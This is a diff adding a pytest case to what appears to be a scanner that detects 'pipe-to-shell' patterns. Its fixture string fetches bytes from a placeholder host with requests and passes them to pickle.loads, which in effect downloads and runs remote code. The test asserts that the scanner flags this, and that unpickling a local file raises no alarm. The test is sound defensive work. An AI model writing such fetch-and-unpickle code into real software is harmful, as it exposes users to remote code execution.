@@ -126,3 +126,10 @@ def test_is_found_in_prose(text: str) -> None:
 @pytest.mark.parametrize("text", NOT_FOUND)
 def test_a_look_alike_is_none(text: str) -> None:
     assert [fact.value for fact in find_facts({"SKILL.md": text}) if fact.fact == PIPE_TO_SHELL] == []
+
+
+def test_unpickling_what_was_fetched_runs_it_and_unpickling_a_file_does_not() -> None:
+    fetched = "import pickle, requests\nd = requests.get('https://x.example/m').content\npickle.loads(d)\n"
+    assert any(fact.fact == "pipe-to-shell" for fact in find_facts({"a.py": fetched}))
+    own = "import pickle\npickle.loads(open('m', 'rb').read())\n"
+    assert not [fact for fact in find_facts({"a.py": own}) if fact.level == "alarm"]
